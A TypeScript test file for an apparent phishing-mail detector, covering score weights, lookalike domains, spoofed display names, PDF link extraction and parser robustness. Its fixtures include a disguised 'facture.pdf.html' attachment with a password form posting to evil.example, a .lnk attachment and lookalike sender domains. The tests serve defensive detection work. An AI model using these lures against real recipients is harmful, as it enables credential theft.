import assert from 'node:assert/strict';
import { test } from 'node:test';
import { BAIT_REASONS } from '../../judge/reasons/bait.ts';
import { DEFAULT_LIMITS } from '../../model/index.ts';
import { guardedOf } from './guarded.ts';
import { BAIT_SCORE, judgeMail, scoreOf } from './judge-mail.ts';
import { readView } from './read-view.ts';
import { receiverResults, receiverSignal } from './receiver-results.ts';
import { FRENCH_BAIT, FRENCH_OFFICE, HTML, mail } from './testing/mail.ts';
import { BIAS, WEIGHTS } from './weights.ts';

const NOBODY = guardedOf([], []);
const OURS = guardedOf(['en-marche.fr'], ['Camille Aubrac']);

async function judged(bytes: Uint8Array, guarded = NOBODY) {
  return judgeMail(await readView(bytes, DEFAULT_LIMITS), guarded);
}

async function codes(bytes: Uint8Array, guarded = NOBODY): Promise<readonly string[]> {
  return (await judged(bytes, guarded)).reasons.map(({ code }) => code);
}

test('bait is told with its reasons, ids and indicators, without and with the brand', async () => {
  const blind = await judged(FRENCH_BAIT);
  assert.ok(blind.score >= BAIT_SCORE, `${blind.score}`);
  const { score, reasons, attack, indicators } = await judged(FRENCH_BAIT, OURS);
  assert.equal(score, 100);
  assert.deepEqual(
    reasons.slice(0, 2).map(({ code, detail }) => [code, detail.target]),
    [
      ['bait-link-lookalike', 'en-marche.fr'],
      ['bait-lookalike-sender', 'en-marche.fr'],
    ],
  );
  assert.ok(
    reasons.some(({ code, detail }) => code === 'bait-link-text-differs' && detail.shown === 'en-marche.fr'),
  );
  assert.deepEqual(attack, ['T1566.002', 'T1583.001', 'T1598.003']);
  assert.deepEqual(indicators.links, ['hxxps://onedrive-en-marche[.]fr/connexion?u=3']);
});

test('office mail that speaks of money and links is not', async () => {
  const { score } = await judged(FRENCH_OFFICE, OURS);
  assert.ok(score < BAIT_SCORE, `${score}`);
});

test('reasons add up to the score, and no other weight than the table’s is in it', async () => {
  const { score, reasons } = await judged(FRENCH_BAIT, OURS);
  const odds = reasons.reduce((sum, { weight }) => sum + weight, BIAS);
  assert.equal(score, Math.round(100 / (1 + Math.exp(-odds))));
  for (const { code, weight } of reasons)
    assert.ok(
      [1, 2].some((level) => Math.abs((WEIGHTS[code] ?? 0) * level - weight) < 0.006),
      code,
    );
  assert.ok(Object.keys(WEIGHTS).every((code) => Object.hasOwn(BAIT_REASONS, code)));
});

test('what is told is what lies above even odds, and one word decides nothing', async () => {
  assert.deepEqual([-3, -0.001, 0, 0.001].map(scoreOf), [5, 49, 50, 50]);
  for (const word of ['girlfriend', 'congratulations', 'inheritance', 'btc'])
    assert.ok((await judged(mail({ From: 'a@example.org', Subject: 'x' }, word))).score < BAIT_SCORE, word);
});

test('the name of staff, of a brand, and another address in the name, from elsewhere', async () => {
  const from = (value: string) => codes(mail({ From: value, Subject: 'x' }, 'x'), OURS);
  assert.ok((await from('"Camille Aubrac" <c.aubrac.perso@gmail.com>')).includes('bait-our-name'));
  assert.ok(!(await from('"Camille Aubrac" <camille@en-marche.fr>')).includes('bait-our-name'));
  assert.ok((await from('"La Poste" <suivi@colis-relais.example.net>')).includes('bait-brand-name'));
  assert.ok(!(await from('"La Poste" <suivi@notif.laposte.fr>')).includes('bait-brand-name'));
  assert.ok((await from('"presse@en-marche.fr" <a@b.ru>')).includes('bait-address-in-name'));
  assert.ok((await from('"P a y p a l" <a@b.ru>')).includes('bait-disguised-letters'));
});

test('suffixes of no registry are guarded too', async () => {
  const guarded = guardedOf(['campagne-rivage.example'], []);
  const found = await codes(mail({ From: 'support@carnpagne-rivage.example', Subject: 'x' }, 'x'), guarded);
  assert.ok(found.includes('bait-lookalike-sender'));
  assert.ok(!found.includes('bait-sender-domain'));
});

test('attachments: a page with a password field, a program, two endings', async () => {
  const bytes = mail(
    { From: 'a@example.org', Subject: 'x', 'Content-Type': 'multipart/mixed; boundary=b' },
    '--b\r\n\r\nVoir la pièce jointe.\r\n' +
      '--b\r\nContent-Type: text/html; name="facture.pdf.html"\r\nContent-Disposition: attachment; filename="facture.pdf.html"\r\n\r\n' +
      '<form action="https://evil.example/x"><input type=password></form>\r\n' +
      '--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="a.lnk"\r\n\r\nx\r\n--b--\r\n',
  );
  const found = await codes(bytes);
  for (const code of [
    'bait-attached-page',
    'bait-password-form',
    'bait-double-ending',
    'bait-attached-program',
  ])
    assert.ok(found.includes(code), code);
});

test('the links of a PDF are read, also out of a broken one', async () => {
  const pdf =
    '%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Link/A <</S/URI/URI (https://portal-office.fr/x)>>>>\nendobj\ntrailer<<>>';
  const bytes = mail(
    { From: 'a@example.org', Subject: 'x', 'Content-Type': 'multipart/mixed; boundary=b' },
    `--b\r\n\r\nVoir le document.\r\n--b\r\nContent-Type: application/pdf; name="a.pdf"\r\n\r\n${pdf}\r\n--b--\r\n`,
  );
  const { reasons, indicators } = await judged(bytes);
  assert.ok(
    reasons.some(({ code, detail }) => code === 'bait-pdf-link' && detail.host === 'portal-office.fr'),
  );
  assert.equal(indicators.attachments[0]?.name, 'a.pdf');
});

test('only a trusted receiver is believed, and what it could not check is no failure', () => {
  const bytes = (results: string) =>
    mail({ 'Authentication-Results': results, From: 'a@example.org', Subject: 'x' }, 'x');
  const failed = bytes(
    'mx.ours.example; spf=fail smtp.mailfrom=x; dkim=none; dmarc=fail header.from=example.org',
  );
  assert.equal(receiverResults(failed, 'mx.elsewhere.example', DEFAULT_LIMITS), null);
  assert.equal(receiverSignal(receiverResults(failed, 'ours.example', DEFAULT_LIMITS))?.level, 2);
  const none = bytes('mx.ours.example; spf=none; dkim=none; dmarc=none');
  assert.equal(receiverSignal(receiverResults(none, 'mx.ours.example', DEFAULT_LIMITS)), null);
});

test('hostile pages end soon and throw nothing', async () => {
  const deep = mail({ ...HTML, From: 'a@example.org', Subject: 'x' }, '<b>'.repeat(200_000));
  const anchors = mail(
    { ...HTML, From: 'a@example.org', Subject: 'x' },
    '<a href="http://x.y/?u=//z.w">'.repeat(50_000),
  );
  const words = mail({ From: 'a@example.org', Subject: 'dear '.repeat(50_000) }, 'dear '.repeat(200_000));
  for (const bytes of [deep, anchors, words, Buffer.alloc(0)]) assert.ok((await judged(bytes)).score >= 0);
});
